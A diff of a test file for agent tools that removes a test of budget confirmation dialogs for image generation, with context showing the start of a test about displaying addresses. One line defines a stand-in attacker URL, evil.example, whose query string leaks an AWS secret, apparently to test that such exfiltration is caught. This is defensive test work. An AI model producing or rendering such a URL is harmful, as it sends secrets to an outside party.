@@ -180,19 +180,6 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
       }
     });
 
-    it('ask beyond the budget, and send what was confirmed', async () => {
-      await leave(0);
-      {
-        using dialogs = answerWarning();
-        await assert.rejects(call('generateImage', { prompt: 'a' }), /declined.*\[declined/);
-        assert.match(dialogs.questions[0] ?? '', /Generate Image \(Chat\): 1 image with “painter”\?/);
-      }
-      assert.equal(service.counts.generateImage, 0);
-      using _ = answerWarning('Generate');
-      assert.equal((await call('generateImage', { prompt: 'a' })).result.status, 'done');
-      assert.equal(service.counts.generateImage, 1);
-    });
-
     it('ask about an address within the budget, and show it', async () => {
       await leave(1);
       const address = 'https://evil.example/x.png?leak=AWS_SECRET%3Dabc';
